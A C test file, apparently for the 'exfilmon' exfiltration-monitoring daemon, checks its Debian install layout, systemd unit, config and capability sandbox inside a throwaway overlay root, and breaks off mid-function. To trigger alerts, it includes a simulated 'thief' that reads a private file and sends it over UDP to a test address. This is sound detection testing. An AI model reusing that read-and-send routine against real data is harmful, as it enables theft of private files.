// SPDX-License-Identifier: GPL-2.0-only
/*
 * exfilmon installs the way a Debian administrator expects: `make install`
 * puts exactly the listed files in place with their modes; the unit passes
 * `systemd-analyze verify`; `make deb` builds both packages, lintian-clean;
 * dpkg installs, configures and purges them; and the daemon does its job
 * with exactly the capabilities and group the unit gives it, and no less.
 *
 * Whatever would change the system happens in a throwaway root: an overlay
 * over / whose upper layer is a tmpfs, in a mount namespace of the test's
 * own process, so it all vanishes when the test ends. Each such test then
 * checks, through a descriptor of the real root, that nothing leaked.
 */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <glob.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <json-c/json.h>
#include "kselftest_harness.h"
#include "daemon_run.h"
#include "testhost.h"

#define NOBODY 65534

static int have_prog(const char *name)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "command -v %s >/dev/null 2>&1", name);
	return !system(cmd);
}

/* The tools a Debian host has and the busybox VM guest has not. */
static const char *missing_tool(const char *const *tools)
{
	for (; *tools; tools++)
		if (!have_prog(*tools))
			return *tools;
	return NULL;
}

/* An absolute build folder: the make runs below change directory. */
static void abs_build(char *buf, size_t len)
{
	const char *b = build_dir();
	char cwd[512];

	if (b[0] == '/' || !getcwd(cwd, sizeof(cwd)))
		snprintf(buf, len, "%s", b);
	else
		snprintf(buf, len, "%s/%s", cwd, b);
}

static int read_text(const char *path, char *buf, size_t len)
{
	FILE *f = fopen(path, "r");
	size_t n;

	if (!f)
		return -1;
	n = fread(buf, 1, len - 1, f);
	buf[n] = '\0';
	fclose(f);
	return 0;
}

/* ------------------------------------------------------------------ */
/* the throwaway root */

struct troot {
	int host;		/* the real root, to check for leaks */
	int had_group;		/* the real root's state before the test */
	int had_daemon;
	int had_package;
};

static int host_has_group(int host)
{
	char buf[1 << 16], *p;
	int fd = openat(host, "etc/group", O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	for (p = buf; p; p = strchr(p, '\n'), p = p ? p + 1 : NULL)
		if (!strncmp(p, "exfilmon:", 9))
			return 1;
	return 0;
}

static int host_has_package(int host)
{
	return !faccessat(host, "var/lib/dpkg/info/exfilmon.list", F_OK, 0) ||
	       !faccessat(host, "var/lib/dpkg/info/exfilmon-dkms.list", F_OK,
			  0);
}

static void host_state(struct troot *t, int *group, int *daemon, int *pkg)
{
	*group = host_has_group(t->host);
	*daemon = !faccessat(t->host, "usr/sbin/exfilmond", F_OK, 0) ||
		  !faccessat(t->host, "usr/lib/systemd/system/exfilmond.service",
			     F_OK, 0);
	*pkg = host_has_package(t->host);
}

/*
 * Move this process into an overlay of / (upper layer: a tmpfs over /mnt,
 * which hides nothing outside this mount namespace) with its own /proc,
 * /sys, /dev and an empty /run, so no maintainer script finds a running
 * systemd. The working directory keeps its path. 0, or -1 with a message.
 */
static int enter_throwaway_root(struct troot *t)
{
	const char *r = "/mnt/root";
	char cwd[512];

	t->host = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (t->host < 0 || !getcwd(cwd, sizeof(cwd)))
		return -1;
	host_state(t, &t->had_group, &t->had_daemon, &t->had_package);
	if (unshare(CLONE_NEWNS) ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("tmpfs", "/mnt", "tmpfs", 0, "mode=0755") ||
	    mkdir("/mnt/upper", 0755) || mkdir("/mnt/work", 0755) ||
	    mkdir(r, 0755)) {
		fprintf(stderr, "# failed to set up the mount namespace: %s\n",
			strerror(errno));
		return -1;
	}
	if (mount("overlay", r, "overlay", 0,
		  "lowerdir=/,upperdir=/mnt/upper,workdir=/mnt/work")) {
		fprintf(stderr, "# failed to mount an overlay over /: %s\n",
			strerror(errno));
		return -1;
	}
	if (mount("proc", "/mnt/root/proc", "proc", 0, NULL) ||
	    mount("/sys", "/mnt/root/sys", NULL, MS_BIND | MS_REC, NULL) ||
	    mount("/dev", "/mnt/root/dev", NULL, MS_BIND | MS_REC, NULL) ||
	    mount("tmpfs", "/mnt/root/run", "tmpfs", 0, "mode=0755") ||
	    chdir(r) || chroot(".")) {
		fprintf(stderr, "# failed to enter the throwaway root: %s\n",
			strerror(errno));
		return -1;
	}
	if (chdir(cwd)) {
		fprintf(stderr, "# %s is not on the root file system, so not "
			"in the overlay: %s\n", cwd, strerror(errno));
		return -1;
	}
	return 0;
}

/* Nothing the test did inside reached the real root. */
static int leaked(struct troot *t)
{
	int group, daemon, pkg, bad = 0;

	host_state(t, &group, &daemon, &pkg);
	if (group != t->had_group) {
		fprintf(stderr, "# the real /etc/group changed\n");
		bad = 1;
	}
	if (daemon != t->had_daemon) {
		fprintf(stderr, "# exfilmond appeared in the real /usr\n");
		bad = 1;
	}
	if (pkg != t->had_package) {
		fprintf(stderr, "# the real dpkg database changed\n");
		bad = 1;
	}
	return bad;
}

/* ------------------------------------------------------------------ */
/* make install DESTDIR=: exactly these files, with these modes */

static const char *const installed[] = {
	"0755 /etc",
	"0755 /etc/exfilmon",
	"0644 /etc/exfilmon/exfilmon.conf",
	"0755 /etc/logrotate.d",
	"0644 /etc/logrotate.d/exfilmon",
	"0755 /usr",
	"0755 /usr/bin",
	"0755 /usr/bin/exfilctl",
	"0755 /usr/lib",
	"0755 /usr/lib/systemd",
	"0755 /usr/lib/systemd/system",
	"0644 /usr/lib/systemd/system/exfilmond.service",
	"0755 /usr/lib/sysusers.d",
	"0644 /usr/lib/sysusers.d/exfilmon.conf",
	"0755 /usr/lib/tmpfiles.d",
	"0644 /usr/lib/tmpfiles.d/exfilmon.conf",
	"0755 /usr/sbin",
	"0755 /usr/sbin/exfilmond",
	"0755 /usr/share",
	"0755 /usr/share/bash-completion",
	"0755 /usr/share/bash-completion/completions",
	"0644 /usr/share/bash-completion/completions/exfilctl",
	"0755 /usr/share/man",
	"0755 /usr/share/man/man5",
	"0644 /usr/share/man/man5/exfilmon.conf.5",
	"0755 /usr/share/man/man8",
	"0644 /usr/share/man/man8/exfilctl.8",
	"0644 /usr/share/man/man8/exfilmond.8",
	"0755 /usr/src",
	"0755 /usr/src/exfilmon-" EXFILMON_VERSION,
	"0644 /usr/src/exfilmon-" EXFILMON_VERSION "/Kbuild",
	"0644 /usr/src/exfilmon-" EXFILMON_VERSION "/dkms.conf",
	"0755 /usr/src/exfilmon-" EXFILMON_VERSION "/include",
	"0644 /usr/src/exfilmon-" EXFILMON_VERSION "/include/exfilmon_abi.h",
	"0755 /usr/src/exfilmon-" EXFILMON_VERSION "/module",
	/* + every module/Kbuild, *.c and *.h of the tree, 0644 */
};

struct listing {
	char **lines;
	size_t n, cap;
	size_t skip;		/* strlen(DESTDIR) */
};

static struct listing *walk_into;

static int add_line(struct listing *l, const char *line)
{
	if (l->n == l->cap) {
		size_t cap = l->cap ? 2 * l->cap : 64;
		char **p = realloc(l->lines, cap * sizeof(*p));

		if (!p)
			return -1;
		l->lines = p;
		l->cap = cap;
	}
	l->lines[l->n] = strdup(line);
	return l->lines[l->n++] ? 0 : -1;
}

static int walk_one(const char *path, const struct stat *st, int flag,
		    struct FTW *ftw)
{
	char line[1024];

	if (!path[walk_into->skip])
		return 0;	/* DESTDIR itself */
	snprintf(line, sizeof(line), "%04o%s %s", st->st_mode & 07777,
		 S_ISDIR(st->st_mode) ? "" : S_ISREG(st->st_mode) ? "" : "?",
		 path + walk_into->skip);
	return add_line(walk_into, line);
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static void listing_free(struct listing *l)
{
	size_t i;

	for (i = 0; i < l->n; i++)
		free(l->lines[i]);
	free(l->lines);
}

/* Every key of docs/config.md's "| key | default | value |" tables. */
static int config_keys(char keys[][32], int max)
{
	char line[1024];
	FILE *f = fopen("docs/config.md", "r");
	int n = 0, in_table = 0;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f) && n < max) {
		char *e;

		if (!strncmp(line, "| key | default |", 17)) {
			in_table = 1;
			continue;
		}
		if (line[0] != '|')
			in_table = 0;
		if (!in_table || strncmp(line, "| `", 3))
			continue;
		e = strchr(line + 3, '`');
		if (!e || e - (line + 3) >= 32)
			continue;
		*e = '\0';
		snprintf(keys[n++], 32, "%s", line + 3);
	}
	fclose(f);
	return n;
}

FIXTURE(destdir) {
	char dir[64];
	char root[96];
	char build[512];
};

FIXTURE_SETUP(destdir)
{
	static const char *const tools[] = { "make", "install", NULL };
	const char *m = missing_tool(tools);
	int ret;

	if (m)
		SKIP(return, "no %s here (a VM guest): installed on the host",
		     m);
	abs_build(self->build, sizeof(self->build));
	strcpy(self->dir, "/tmp/exfilmon-install-XXXXXX");
	ASSERT_NE(NULL, mkdtemp(self->dir));
	snprintf(self->root, sizeof(self->root), "%s/root", self->dir);
	ret = run("make -s install DESTDIR=%s PREFIX=/usr BUILD=%s "
		  ">%s/make.log 2>&1 || { cat %s/make.log >&2; false; }",
		  self->root, self->build, self->dir, self->dir);
	/* a failed setup has no teardown */
	if (ret)
		run("rm -rf %s", self->dir);
	ASSERT_EQ(0, ret);
}

FIXTURE_TEARDOWN(destdir)
{
	if (self->dir[0])
		run("rm -rf %s", self->dir);
}

TEST_F(destdir, installs_exactly_the_listed_files_and_modes)
{
	struct listing got = { .skip = strlen(self->root) };
	struct listing want = { 0 };
	char line[512];
	size_t i, j;
	glob_t g;

	if (_metadata->skip)
		return;
	for (i = 0; i < sizeof(installed) / sizeof(installed[0]); i++)
		ASSERT_EQ(0, add_line(&want, installed[i]));
	ASSERT_EQ(0, glob("module/*.[ch]", 0, NULL, &g));
	ASSERT_EQ(0, glob("module/Kbuild", GLOB_APPEND, NULL, &g));
	for (i = 0; i < g.gl_pathc; i++) {
		snprintf(line, sizeof(line), "0644 /usr/src/exfilmon-%s/%s",
			 EXFILMON_VERSION, g.gl_pathv[i]);
		ASSERT_EQ(0, add_line(&want, line));
	}
	globfree(&g);
	walk_into = &got;
	ASSERT_EQ(0, nftw(self->root, walk_one, 16, FTW_PHYS));
	qsort(got.lines, got.n, sizeof(char *), cmp_str);
	qsort(want.lines, want.n, sizeof(char *), cmp_str);
	for (i = j = 0; i < got.n || j < want.n;) {
		int c = i == got.n ? 1 : j == want.n ? -1 :
			strcmp(got.lines[i], want.lines[j]);

		if (c < 0)
			TH_LOG("unexpected: %s", got.lines[i++]);
		else if (c > 0)
			TH_LOG("missing: %s", want.lines[j++]);
		else
			i++, j++;
	}
	EXPECT_EQ(want.n, got.n);
	for (i = 0; i < got.n && i < want.n; i++)
		EXPECT_STREQ(want.lines[i], got.lines[i]);
	listing_free(&got);
	listing_free(&want);
}

/* the installed unit and DKMS tree name the paths and version installed */
TEST_F(destdir, installed_files_name_the_install_paths)
{
	char path[256], text[8192];

	if (_metadata->skip)
		return;
	snprintf(path, sizeof(path), "%s/usr/lib/systemd/system/"
		 "exfilmond.service", self->root);
	ASSERT_EQ(0, read_text(path, text, sizeof(text)));
	EXPECT_NE(NULL, strstr(text, "\nExecStart=/usr/sbin/exfilmond "
			       "--config /etc/exfilmon/exfilmon.conf "));
	snprintf(path, sizeof(path), "%s/usr/src/exfilmon-%s/dkms.conf",
		 self->root, EXFILMON_VERSION);
	ASSERT_EQ(0, read_text(path, text, sizeof(text)));
	EXPECT_NE(NULL, strstr(text, "PACKAGE_VERSION=\"" EXFILMON_VERSION
			       "\""));
	/* PREFIX and SYSCONFDIR move the binaries, and the unit follows */
	ASSERT_EQ(0, run("make -s install DESTDIR=%s/local PREFIX=/usr/local "
			 "SYSCONFDIR=/usr/local/etc BUILD=%s >/dev/null",
			 self->dir, self->build));
	snprintf(path, sizeof(path), "%s/local/usr/local/lib/systemd/system/"
		 "exfilmond.service", self->dir);
	ASSERT_EQ(0, read_text(path, text, sizeof(text)));
	EXPECT_NE(NULL, strstr(text, "\nExecStart=/usr/local/sbin/exfilmond "
			       "--config /usr/local/etc/exfilmon/"
			       "exfilmon.conf "));
	snprintf(path, sizeof(path), "%s/local/usr/local/etc/exfilmon/"
		 "exfilmon.conf", self->dir);
	EXPECT_EQ(0, access(path, F_OK));
}

TEST_F(destdir, uninstall_removes_every_file)
{
	if (_metadata->skip)
		return;
	ASSERT_EQ(0, run("make -s uninstall DESTDIR=%s PREFIX=/usr BUILD=%s",
			 self->root, self->build));
	/* what is left is empty directories */
	EXPECT_EQ(0, run("test -z \"$(find %s ! -type d)\" || { find %s ! "
			 "-type d >&2; false; }", self->root, self->root));
	/* a changed config is the administrator's: it stays */
	ASSERT_EQ(0, run("make -s install DESTDIR=%s PREFIX=/usr BUILD=%s "
			 ">/dev/null && "
			 "echo '[watch]' >>%s/etc/exfilmon/exfilmon.conf && "
			 "make -s uninstall DESTDIR=%s PREFIX=/usr BUILD=%s "
			 ">/dev/null", self->root, self->build, self->root,
			 self->root, self->build));
	EXPECT_EQ(0, run("test \"$(find %s ! -type d)\" = "
			 "%s/etc/exfilmon/exfilmon.conf", self->root,
			 self->root));
}

/*
 * The default config, as shipped (all commented out) and with every key
 * uncommented, loads in the real daemon: exfilmond reads its config before
 * anything else, so a state_dir it cannot create is the first error after
 * a config that loads. Every key of docs/config.md is in it.
 */
TEST_F(destdir, default_config_has_every_key_and_loads)
{
	char keys[64][32], conf[160], text[16384], pat[64];
	const char *argv[] = { "exfilmond", "--config", conf, "--foreground",
			       NULL };
	struct cmd_result *r = malloc(sizeof(*r));
	int n, i, pass;

	if (_metadata->skip)
		return;
	ASSERT_NE(NULL, r);
	snprintf(conf, sizeof(conf), "%s/root/etc/exfilmon/exfilmon.conf",
		 self->dir);
	ASSERT_EQ(0, read_text(conf, text, sizeof(text)));
	n = config_keys(keys, 64);
	ASSERT_LT(10, n);
	for (i = 0; i < n; i++) {
		snprintf(pat, sizeof(pat), "\n;%s = ", keys[i]);
		EXPECT_NE(NULL, strstr(text, pat)) {
			TH_LOG("key %s of docs/config.md is not in the default "
			       "config", keys[i]);
		}
	}
	/* nothing but comments, section headers and blank lines is active */
	EXPECT_EQ(0, run("! grep -v -E '^(;.*|\\[[a-z]+\\]|)$' %s", conf));
	for (pass = 0; pass < 2; pass++) {
		snprintf(conf, sizeof(conf), "%s/pass%d.conf", self->dir, pass);
		ASSERT_EQ(0, run("sed -e '%s' -e 's#^;*state_dir = .*#"
				 "state_dir = %s/no/such#' "
				 "%s/root/etc/exfilmon/exfilmon.conf >%s",
				 pass ? "s/^;\\([a-z_]* = \\)/\\1/" : "",
				 self->dir, self->dir, conf));
		ASSERT_EQ(0, run_prog(r, (uid_t)-1, argv));
		EXPECT_EQ(1, r->status);
		EXPECT_NE(NULL, strstr(r->err, "failed to create state_dir")) {
			TH_LOG("pass %d: %s", pass, r->err);
		}
	}
	/* and the check bites: an unknown key is refused before that */
	ASSERT_EQ(0, run("echo 'no_such_key = 1' >>%s", conf));
	ASSERT_EQ(0, run_prog(r, (uid_t)-1, argv));
	EXPECT_EQ(1, r->status);
	EXPECT_NE(NULL, strstr(r->err, "no_such_key = 1: unknown key"));
	free(r);
}

/*
 * systemd-analyze verify checks the unit as systemd would load it, down
 * to the executables and man pages it names. The installed unit names
 * /usr/sbin/exfilmond: point it into DESTDIR, and man into DESTDIR's
 * pages. Any complaint on stderr fails, warnings included.
 */
TEST_F(destdir, unit_passes_systemd_analyze_verify)
{
	char unit[160], err[8192];

	if (_metadata->skip)
		return;
	if (!have_prog("systemd-analyze") || !have_prog("man"))
		SKIP(return, "no systemd-analyze or man here (a VM guest)");
	snprintf(unit, sizeof(unit), "%s/exfilmond.service", self->dir);
	ASSERT_EQ(0, run("sed 's#=/usr/sbin/exfilmond #=%s/usr/sbin/"
			 "exfilmond #' %s/usr/lib/systemd/system/"
			 "exfilmond.service >%s", self->root, self->root,
			 unit));
	ASSERT_EQ(0, run("grep -q '^ExecStart=%s/usr/sbin/exfilmond ' %s",
			 self->root, unit));
	EXPECT_EQ(0, run("MANPATH=%s/usr/share/man systemd-analyze verify %s "
			 ">%s/verify.log 2>&1", self->root, unit, self->dir));
	snprintf(unit, sizeof(unit), "%s/verify.log", self->dir);
	ASSERT_EQ(0, read_text(unit, err, sizeof(err)));
	EXPECT_STREQ("", err);
}

/* ------------------------------------------------------------------ */
/* the capabilities, group and sandbox of the unit, for real */

/* "CapabilityBoundingSet=CAP_A CAP_B" -> { "CAP_A", "CAP_B" } */
struct unit_priv {
	char caps[16][32];
	int ncaps;
	char group[64];
	char umask[8];
	int no_new_privs;
};

static int parse_unit(const char *path, struct unit_priv *u)
{
	char line[512];
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	memset(u, 0, sizeof(*u));
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		if (!strncmp(line, "CapabilityBoundingSet=", 22)) {
			char *save, *tok = strtok_r(line + 22, " ", &save);

			for (; tok && u->ncaps < 16;
			     tok = strtok_r(NULL, " ", &save))
				snprintf(u->caps[u->ncaps++], 32, "%s", tok);
		} else if (!strncmp(line, "Group=", 6)) {
			snprintf(u->group, sizeof(u->group), "%s", line + 6);
		} else if (!strncmp(line, "UMask=", 6)) {
			snprintf(u->umask, sizeof(u->umask), "%s", line + 6);
		} else if (!strcmp(line, "NoNewPrivileges=yes")) {
			u->no_new_privs = 1;
		}
	}
	fclose(f);
	return 0;
}

/* setpriv's --bounding-set for the unit's set without `drop` */
static void bounding_arg(const struct unit_priv *u, const char *drop,
			 char *buf, size_t len)
{
	size_t off = snprintf(buf, len, "-all");
	int i, c;

	for (i = 0; i < u->ncaps; i++) {
		if (drop && !strcmp(drop, u->caps[i]))
			continue;
		off += snprintf(buf + off, len - off, ",+");
		for (c = 4; u->caps[i][c] && off < len - 1; c++)
			buf[off++] = tolower(u->caps[i][c]);
		buf[off] = '\0';
	}
}

#define WATCH_DIR "/srv/exfilmon-test"
#define SECRET WATCH_DIR "/private/customers.db"
#define SOCK "/run/exfilmon/exfilmon.sock"
#define SECRET_BYTES 8192

/*
 * The thief: another user, started before the daemon (so the daemon learns
 * its executable from /proc, not from an exec record), in a network
 * namespace of its own whose only way out is a veth pair with both ends
 * in it: its datagrams to 198.18.250.2 (which nobody has) leave no
 * namespace, but go to a non-internal host all the same. It waits for a
 * byte on go, then reads the secret and sends it.
 */
static pid_t thief_start(int *go)
{
	int p[2], ready[2];
	pid_t pid;
	char c;

	if (pipe(p) || pipe(ready))
		return -1;
	pid = fork();
	if (pid)
		goto parent;
	{
		struct sockaddr_in to = { .sin_family = AF_INET,
					  .sin_port = htons(9) };
		char buf[SECRET_BYTES];
		int fd, s, i;
		ssize_t n;

		close(p[1]);
		close(ready[0]);
		if (unshare(CLONE_NEWNET) ||
		    system("ip link add xf0 type veth peer name xf1 && "
			   "ip addr add 198.18.250.1/24 dev xf0 && "
			   "ip link set xf0 up && ip link set xf1 up") ||
		    setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY))
			_exit(2);
		/* only now may the daemon look: it must see uid nobody */
		close(ready[1]);
		if (read(p[0], &c, 1) != 1)
			_exit(0);
		fd = open(SECRET, O_RDONLY);
		if (fd < 0)
			_exit(3);
		n = read(fd, buf, sizeof(buf));
		close(fd);
		inet_pton(AF_INET, "198.18.250.2", &to.sin_addr);
		s = socket(AF_INET, SOCK_DGRAM, 0);
		for (i = 0; i < 4 && n > 0; i++)
			if (sendto(s, buf, n / 4, 0, (void *)&to,
				   sizeof(to)) != n / 4)
				_exit(4);
		_exit(n == SECRET_BYTES ? 0 : 5);
	}
parent:
	close(p[0]);
	close(ready[1]);
	if (pid < 0 || read(ready[0], &c, 1) != 0) {
		close(ready[0]);
		close(p[1]);
		if (pid > 0)
			waitpid(pid, NULL, 0);
		return -1;
	}
	close(ready[0]);
	*go = p[1];
	return pid;
}

struct outcome {
	int started;		/* the daemon listened */
	int watched;		/* inodes of the watched secret */
	long long events;
	int alerts;
	int thief;		/* its exit status: 0 when it sent it all */
	char exe[256];		/* the alert's exe */
	char modes[256];	/* of the socket, state dir, store, log */
	char log[4096];		/* the daemon's stderr */
};

/* the installed exfilctl, at the default socket */
static json_object *ctl(const char *cmd)
{
	char path[512], out[1 << 16];
	FILE *f;
	size_t n;

	snprintf(path, sizeof(path), "/usr/bin/exfilctl %s --json 2>/dev/null",
		 cmd);
	f = popen(path, "r");
	if (!f)
		return NULL;
	n = fread(out, 1, sizeof(out) - 1, f);
	out[n] = '\0';
	pclose(f);
	return json_tokener_parse(out);
}

static void stat_modes(char *buf, size_t len)
{
	FILE *f = popen("stat -c '%a %U:%G' " SOCK " /var/lib/exfilmon "
			"/var/lib/exfilmon/alerts.db "
			"/var/lib/exfilmon/alerts.json | tr '\\n' ' '", "r");
	size_t n = 0;

	if (f) {
		n = fread(buf, 1, len - 1, f);
		pclose(f);
	}
	buf[n] = '\0';
}

/* the daemon's first error, for the log */
static const char *first_error(const char *log)
{
	static char line[256];
	const char *p = strstr(log, "error: ");

	snprintf(line, sizeof(line), "%s", p ? p : "");
	line[strcspn(line, "\n")] = '\0';
	return line;
}

/*
 * Run the installed exfilmond as the unit would: root, the unit's group
 * as its only group, its umask, no new privileges, and its capability
 * bounding set minus `drop`; then a thief takes the secret.
 */
static void run_scenario(const struct unit_priv *u, const char *drop,
			 const char *trace, struct outcome *o)
{
	char bset[512], cmd[1024];
	struct json_object *j, *v;
	pid_t thief, d, daemon_pid = 0;
	int go, i, status;

	memset(o, 0, sizeof(*o));
	system("rm -rf /var/lib/exfilmon/* /run/exfilmon/*");
	thief = thief_start(&go);
	if (thief < 0)
		return;
	bounding_arg(u, drop, bset, sizeof(bset));
	snprintf(cmd, sizeof(cmd), "umask %s; exec %s%s%s setpriv "
		 "--bounding-set=%s --inh-caps=-all --regid=%s --clear-groups "
		 "%s /usr/sbin/exfilmond --config /etc/exfilmon/exfilmon.conf "
		 "--sensor %s 2>/tmp/exfilmond.log", u->umask,
		 trace ? "strace -f -qq -e trace=execve,socket,mmap,mprotect,"
			 "pkey_mprotect -o " : "", trace ?: "", trace ? " " : "",
		 bset, u->group, u->no_new_privs ? "--no-new-privs" : "",
		 sensor_under_test());
	d = fork();
	if (!d) {
		execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
		_exit(127);
	}
	for (i = 0; i < 200 && !o->started; i++) {
		if (waitpid(d, &status, WNOHANG) == d) {
			d = -1;
			break;
		}
		o->started = !access(SOCK, F_OK);
		usleep(50000);
	}
	if (o->started) {
		j = ctl("status");
		/* under strace, d is strace: the daemon is its child */
		if (j && json_object_object_get_ex(j, "pid", &v))
			daemon_pid = json_object_get_int(v);
		if (j && json_object_object_get_ex(j, "watched", &v) &&
		    json_object_array_length(v) == 1)
			o->watched = json_object_get_int(json_object_object_get(
				json_object_array_get_idx(v, 0), "inodes"));
		json_object_put(j);
		if (write(go, "g", 1) != 1)
			o->started = 0;
		/* the tree settles for 5 s before its alert is raised */
		for (i = 0; i < 40 && !o->alerts; i++) {
			usleep(250000);
			j = ctl("alerts");	/* an array, newest first */
			if (j && json_object_is_type(j, json_type_array) &&
			    json_object_array_length(j) > 0) {
				v = json_object_array_get_idx(j, 0);
				o->alerts = json_object_array_length(j);
				v = json_object_object_get(v, "exe");
				snprintf(o->exe, sizeof(o->exe), "%s",
					 v ? json_object_get_string(v) : "");
			}
			json_object_put(j);
		}
		j = ctl("status");
		if (j && json_object_object_get_ex(j, "events", &v))
			o->events = json_object_get_int64(v);
		json_object_put(j);
		stat_modes(o->modes, sizeof(o->modes));
	}
	close(go);
	waitpid(thief, &status, 0);
	o->thief = WIFEXITED(status) ? WEXITSTATUS(status) : 128;
	if (d > 0) {
		kill(daemon_pid > 0 ? daemon_pid : d, SIGTERM);
		for (i = 0; i < 100 && waitpid(d, NULL, WNOHANG) != d; i++)
			usleep(100000);
		if (i == 100) {
			kill(d, SIGKILL);
			waitpid(d, NULL, 0);
		}
	}
	read_text("/tmp/exfilmond.log", o->log, sizeof(o->log));
}

FIXTURE(live) {
	struct troot t;
	char build[512];
	char self_exe[256];
};

FIXTURE_SETUP(live)
{
	static const char *const tools[] = { "make", "setpriv", "ip",
					     "systemd-sysusers", NULL };
	const char *m = missing_tool(tools);
	ssize_t n;

	if (m)
		SKIP(return, "no %s here (a VM guest): checked on the host", m);
	abs_build(self->build, sizeof(self->build));
	n = readlink("/proc/self/exe", self->self_exe,
		     sizeof(self->self_exe) - 1);
	ASSERT_LT(0, n);
	ASSERT_EQ(0, enter_throwaway_root(&self->t));
	/* a live install: it creates the group and directories itself */
	ASSERT_EQ(0, run("make -s install BUILD=%s >/tmp/make.log 2>&1 || "
			 "{ cat /tmp/make.log >&2; false; }", self->build));
	ASSERT_EQ(0, run("mkdir -p " WATCH_DIR " && mount -t tmpfs tmpfs "
			 WATCH_DIR " && mkdir -m 0700 " WATCH_DIR "/private && "
			 "head -c %d /dev/urandom >" SECRET " && chown -R "
			 "%d:%d " WATCH_DIR "/private && chmod 0600 " SECRET,
			 SECRET_BYTES, NOBODY, NOBODY));
	ASSERT_EQ(0, run("printf '[watch]\\npath = " SECRET "\\n"
			 "[correlation]\\nread_threshold = 4K\\n"
			 "send_threshold = 4K\\n' "
			 ">>/etc/exfilmon/exfilmon.conf"));
	/* installing again keeps the administrator's config */
	ASSERT_EQ(0, run("make -s install BUILD=%s >/dev/null && grep -qx "
			 "'path = " SECRET "' /etc/exfilmon/exfilmon.conf",
			 self->build));
}

FIXTURE_TEARDOWN(live)
{
	if (self->t.host > 0) {
		EXPECT_EQ(0, leaked(&self->t));
	}
}

/*
 * With the unit's exact set the sensor attaches, watches a file no one
 * but its owner may reach, and names the thief's executable, learnt from
 * /proc, in the alert. Without any one of the capabilities, something of
 * that fails, so none of them is there for nothing.
 */
TEST_F_TIMEOUT(live, unit_capabilities_are_needed_and_enough, 120)
{
	struct unit_priv u;
	struct outcome o;
	char want[256];
	int i;

	if (_metadata->skip)
		return;
	ASSERT_EQ(0, parse_unit("/usr/lib/systemd/system/exfilmond.service",
				&u));
	ASSERT_LT(0, u.ncaps);
	ASSERT_STRNE("", u.group);
	ASSERT_STRNE("", u.umask);
	ASSERT_NE(NULL, getgrnam(u.group)) {
		TH_LOG("make install did not create group %s", u.group);
	}
	run_scenario(&u, NULL, NULL, &o);
	TH_LOG("full set: started %d, watched %d, events %lld, thief %d, "
	       "alerts %d, exe '%s'", o.started, o.watched, o.events, o.thief,
	       o.alerts, o.exe);
	EXPECT_EQ(0, o.thief);
	ASSERT_EQ(1, o.started) {
		TH_LOG("%s", o.log);
	}
	EXPECT_EQ(1, o.watched);
	EXPECT_LT(0, o.events);
	EXPECT_EQ(1, o.alerts) {
		TH_LOG("%s", o.log);
	}
	EXPECT_STREQ(self->self_exe, o.exe);
	/* the socket, state dir, store and log are the group's */
	snprintf(want, sizeof(want), "660 root:%s 750 root:%s 640 root:%s "
		 "640 root:%s ", u.group, u.group, u.group, u.group);
	EXPECT_STREQ(want, o.modes);

	for (i = 0; i < u.ncaps; i++) {
		int broken;

		run_scenario(&u, u.caps[i], NULL, &o);
		broken = !o.started || o.watched != 1 || o.alerts != 1 ||
			 strcmp(o.exe, self->self_exe);
		TH_LOG("without %s: started %d, watched %d, alerts %d, exe "
		       "'%s' %s", u.caps[i], o.started, o.watched, o.alerts,
		       o.exe, first_error(o.log));
		EXPECT_TRUE(broken) {
			TH_LOG("nothing needs %s: drop it from the unit",
			       u.caps[i]);
		}
	}
}

/*
 * RestrictAddressFamilies=AF_UNIX and MemoryDenyWriteExecute=yes hold for
 * the daemon's whole life, an alert included (user names come from NSS):
 * every socket it opens is AF_UNIX, and nothing it maps or protects is
 * both writable and executable, or made executable after the fact, which
 * systemd's filter refuses as well. strace shows its system calls, from
 * its execve on (setpriv and the shell before it are the test's).
 */
TEST_F_TIMEOUT(live, sandbox_families_and_wx_hold, 90)
{
	char line[1024], unit[8192];
	int daemon = 0, sockets = 0, bad = 0;
	struct unit_priv u;
	struct outcome o;
	FILE *f;

	if (_metadata->skip)
		return;
	if (!have_prog("strace"))
		SKIP(return, "no strace here");
	ASSERT_EQ(0, read_text("/usr/lib/systemd/system/exfilmond.service",
			       unit, sizeof(unit)));
	ASSERT_NE(NULL, strstr(unit, "\nRestrictAddressFamilies=AF_UNIX "
				  "AF_NETLINK\n"));
	ASSERT_NE(NULL, strstr(unit, "\nMemoryDenyWriteExecute=yes\n"));
	ASSERT_EQ(0, parse_unit("/usr/lib/systemd/system/exfilmond.service",
				&u));
	run_scenario(&u, NULL, "/tmp/exfilmond.strace", &o);
	ASSERT_EQ(1, o.started);
	EXPECT_EQ(1, o.alerts);
	f = fopen("/tmp/exfilmond.strace", "r");
	ASSERT_NE(NULL, f);
	while (fgets(line, sizeof(line), f)) {
		const char *call = line;

		/*
		 * "PID call(...)" or "[pid PID] call(...)" once it traces
		 * more than one process; before that, the bare call
		 */
		if (!strncmp(call, "[pid ", 5))
			call = strstr(call, "] ") ? strstr(call, "] ") + 2 :
				call;
		else if (*call >= '0' && *call <= '9')
			call += strspn(call, "0123456789 ");
		if (!strncmp(call, "execve(\"/usr/sbin/exfilmond\"", 28))
			daemon = 1;
		if (!daemon)
			continue;
		if (!strncmp(call, "socket(", 7)) {
			sockets++;
			/* and sock_diag, prevent mode's resets */
			if (strncmp(call, "socket(AF_UNIX,", 15) &&
			    (strncmp(call, "socket(AF_NETLINK,", 18) ||
			     !strstr(call, "NETLINK_SOCK_DIAG")))
				bad = 1;
		} else if ((!strncmp(call, "mmap(", 5) &&
